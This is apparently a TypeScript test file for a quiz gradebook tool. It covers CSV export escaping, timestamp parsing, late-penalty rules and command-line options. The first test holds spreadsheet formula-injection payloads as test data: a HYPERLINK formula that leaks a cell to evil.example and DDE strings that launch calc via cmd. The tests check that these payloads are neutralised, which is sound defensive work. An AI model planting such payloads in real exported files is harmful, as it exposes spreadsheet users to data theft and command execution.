// The gradebook's parts on their own: CSV cells a spreadsheet cannot run, timestamps read strictly,
// late-penalty policies, and the command-line options that choose them.
import { test } from "node:test";
import * as assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { parse } from "csv-parse/sync";
import { scratchDir } from "../helpers/paths";
import { formatCsv, parseCsvTable } from "../../src/quiz/grading/csv";
import { GradebookError } from "../../src/quiz/grading/gradebook-error";
import { explanationsReleased, finalScore, gradebookColumns, parseGradebookArgs } from "../../src/quiz/grading/gradebook";
import { analyzeSource } from "../../src/quiz/grading/source-model";
import { Notebook, NotebookCell } from "../../src/quiz/notebook";
import { QuizSpecError } from "../../src/quiz/spec";
import { code } from "./fixtures";
import { LatePenaltyError, describeLateness, latePenaltyPoints, parseLatePenalty } from "../../src/quiz/grading/late-penalty";
import { TimestampError, parseTimestamp } from "../../src/quiz/grading/timestamp";

test("CSV: text starting with = + - @ tab or CR gets a leading quote, numbers stay numbers, and reading back is exact", () => {
  const texts = [
    `=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    "'=already quoted", "'plain quote", "plain", "", "a,b \"c\"\nd", "2026-12-01 10:00:00.123456 UTC",
  ];
  const numbers = [-1, 0, 2.5, -0.25];
  const dir = scratchDir("quiz-gradebook-csv");
  const file = path.join(dir, "cells.csv");
  fs.writeFileSync(file, formatCsv([texts.map((_, i) => `t${i}`).concat(numbers.map((_, i) => `n${i}`)), [...texts, ...numbers]]));

  // What a spreadsheet reads: every text cell that could start a formula now starts with a quote.
  const [, cells] = parse(fs.readFileSync(file, "utf8")) as string[][];
  for (const cell of cells.slice(0, texts.length)) assert.ok(!/^[=+\-@\t\r]/.test(cell), `${JSON.stringify(cell)} can run as a formula`);
  assert.deepEqual(cells.slice(0, 8), [
    `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1",
    "''=already quoted", "''plain quote",
  ]);
  assert.deepEqual(cells.slice(8, texts.length), texts.slice(8));
  assert.deepEqual(cells.slice(texts.length), ["-1", "0", "2.5", "-0.25"]);

  const table = parseCsvTable(fs.readFileSync(file, "utf8"), file, ["t0"]);
  assert.deepEqual(texts.map((_, i) => table.rows[0].cells[`t${i}`]), texts);
  // A spreadsheet that saved a cell without its quote is read as it shows.
  assert.equal(parseCsvTable("a\n=1+1\n", "x.csv", ["a"]).rows[0].cells.a, "=1+1");
  assert.throws(() => formatCsv([[NaN]]), RangeError);
  assert.throws(() => parseCsvTable("a,b\n1,2\n", "x.csv", ["points"]), /x\.csv has no column points; its header is: a, b/);
  assert.throws(() => parseCsvTable("a,b\n1\n", "x.csv", ["a"]), (e: unknown) => e instanceof GradebookError && /not a readable CSV/.test((e as Error).message));
});

test("timestamps: nbgrader's format and ISO 8601 name the same instants; anything else is refused with a reason", () => {
  const instant = Date.UTC(2026, 11, 1, 10, 0, 0, 123);
  for (const text of [
    "2026-12-01 10:00:00.123456 UTC", "2026-12-01T10:00:00.123Z", "2026-12-01T11:00:00.123+01:00", "2026-12-01 05:00:00.123-0500",
    "2026-12-01T10:00:00.1234", " 2026-12-01 10:00:00.123 GMT\n", "2026-12-01T12:00:00.123+02",
  ]) {
    assert.equal(parseTimestamp(text).getTime(), instant, text);
  }
  assert.equal(parseTimestamp("2026-12-01T10:00Z").getTime(), Date.UTC(2026, 11, 1, 10, 0));
  for (const [text, reason] of [
    ["yesterday", /not a date and time the grader can read: write it as/],
    ["2026-12-01", /not a date and time/],
    ["", /not a date and time/],
    ["=1+1", /not a date and time/],
    ["12/01/2026 10:00", /not a date and time/],
    ["2026-02-30 10:00:00 UTC", /does not exist/],
    ["2026-12-01 24:00:00", /does not exist/],
    ["2026-12-01 10:60:00", /does not exist/],
    ["2026-12-01 10:00:00+01:75", /does not exist/],
  ] as const) {
    assert.throws(() => parseTimestamp(text, "due date"), (e: unknown) => e instanceof TimestampError && e instanceof GradebookError &&
      reason.test((e as Error).message) && (e as Error).message.includes(`The due date ${JSON.stringify(text)}`), text);
  }
});

test("late penalty: policies, points per started hour or day, never more than the raw score", () => {
  assert.deepEqual(parseLatePenalty("none"), { kind: "none" });
  assert.deepEqual(parseLatePenalty("zero"), { kind: "zero" });
  assert.deepEqual(parseLatePenalty("per-hour:0.5"), { kind: "per-hour", points: 0.5 });
  assert.deepEqual(parseLatePenalty("per-day:2"), { kind: "per-day", points: 2 });
  for (const bad of ["per-hour:", "per-hour:-1", "per-hour:0", "per-week:1", "half", "per-day:abc", "per-hour:Infinity"]) {
    assert.throws(() => parseLatePenalty(bad), (e: unknown) => e instanceof LatePenaltyError && /none \| zero \| per-hour:P \| per-day:P/.test((e as Error).message), bad);
  }
  const late = (seconds: number) => ({ late: true as const, seconds });
  const perHour = parseLatePenalty("per-hour:1");
  assert.equal(latePenaltyPoints(perHour, { late: false }, 5), 0);
  assert.equal(latePenaltyPoints(perHour, late(1), 5), 1);
  assert.equal(latePenaltyPoints(perHour, late(3600), 5), 1);
  assert.equal(latePenaltyPoints(perHour, late(3601), 5), 2);
  assert.equal(latePenaltyPoints(perHour, late(100 * 3600), 5), 5, "capped at the raw score");
  assert.equal(latePenaltyPoints(parseLatePenalty("per-day:2"), late(25 * 3600), 10), 4);
  assert.equal(latePenaltyPoints(parseLatePenalty("zero"), late(1), 7.5), 7.5);
  assert.equal(latePenaltyPoints(parseLatePenalty("none"), late(1e6), 7.5), 0);
  assert.equal(describeLateness(2 * 3600 + 4 * 60 + 1), "2 h 5 min");
  assert.equal(describeLateness(86400 + 3600), "1 d 1 h");

  const duedate = parseTimestamp("2026-12-01T10:00:00Z");
  const options = { duedate, latePenalty: perHour };
  assert.deepEqual(finalScore(5, "2026-12-01 10:00:00.000000 UTC", options), { penalty: 0, score: 5 }, "exactly at the due date is on time");
  assert.deepEqual(finalScore(5, "2026-12-01 12:30:00 UTC", options), { penalty: 3, score: 2 });
  assert.deepEqual(finalScore(2, "2026-12-02 10:00:00 UTC", options), { penalty: 2, score: 0 });
  assert.deepEqual(finalScore(5, "not a time", {}), { penalty: 0, score: 5 }, "without a due date the timestamp is not needed");
  const unreadable = finalScore(5, "=cmd|calc", options);
  assert.ok("problem" in unreadable && /"=cmd\|calc" is not a date and time.*No late penalty or score was computed/.test(unreadable.problem));
});

test("gradebook options: --late-penalty needs --duedate, and explanations are never released before the due date", () => {
  const now = new Date(Date.UTC(2026, 11, 3, 12));
  const past = parseGradebookArgs({ duedate: "2026-12-01T10:00:00Z", latePenalty: "per-day:1" }, now);
  assert.deepEqual(past, { duedate: new Date(Date.UTC(2026, 11, 1, 10)), latePenalty: { kind: "per-day", points: 1 }, releaseExplanations: undefined });
  assert.equal(explanationsReleased(past, now), true);
  assert.equal(explanationsReleased(past, new Date(Date.UTC(2026, 11, 1, 9))), false);
  const future = parseGradebookArgs({ duedate: "2026-12-10 00:00:00 UTC" }, now);
  assert.equal(explanationsReleased(future, now), false);
  assert.equal(explanationsReleased({}, now), false);
  assert.equal(explanationsReleased(parseGradebookArgs({ releaseExplanations: true }, now), now), true);
  assert.throws(() => parseGradebookArgs({ latePenalty: "zero" }, now), /--late-penalty needs --duedate/);
  assert.throws(() => parseGradebookArgs({ duedate: "2026-12-10T00:00:00Z", releaseExplanations: true }, now), /has not passed; explanations are released only after it/);
  assert.throws(() => parseGradebookArgs({ duedate: "next friday" }, now), /The --duedate "next friday" is not a date and time/);
  assert.throws(() => parseGradebookArgs({ duedate: "2026-12-01T10:00:00Z", latePenalty: "per-minute:1" }, now), LatePenaltyError);
});

test("gradebook columns: manually graded cells take their place in notebook order and a name of their own", () => {
  const manualCell = (gradeId: string, points: number): NotebookCell => ({
    cell_type: "markdown", source: "YOUR ANSWER HERE",
    metadata: { nbgrader: { schema_version: 3, grade: true, solution: true, locked: false, points, grade_id: gradeId } as never },
  });
  const notebook = (cells: NotebookCell[]): Notebook => ({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells });
  const check = (question: string, points: number) => code(`quiz.check("${question}")`, { grade: true, solution: false, locked: true, points, grade_id: `${question}-check` });
  const model = analyzeSource(notebook([
    code(`quiz.numeric("a", { answer: 1 })`), code(`quiz.answer("a", 1)`), check("a", 1),
    manualCell("essay", 4),
    code(`quiz.numeric("b", { answer: 2 })`), code(`quiz.answer("b", 2)`), check("b", 2),
    manualCell("proof", 0.5),
  ]), "hw");
  assert.deepEqual(gradebookColumns(model), [
    { question: "a", maxPoints: 1, manual: false },
    { question: "essay", maxPoints: 4, manual: true },
    { question: "b", maxPoints: 2, manual: false },
    { question: "proof", maxPoints: 0.5, manual: true },
  ]);
  const clash = analyzeSource(notebook([check("essay", 1), manualCell("essay", 2)]), "hw");
  assert.throws(() => gradebookColumns(clash), (e: unknown) => e instanceof QuizSpecError && /"essay" has the name of an autograded question: give it another grade_id/.test((e as Error).message));
});
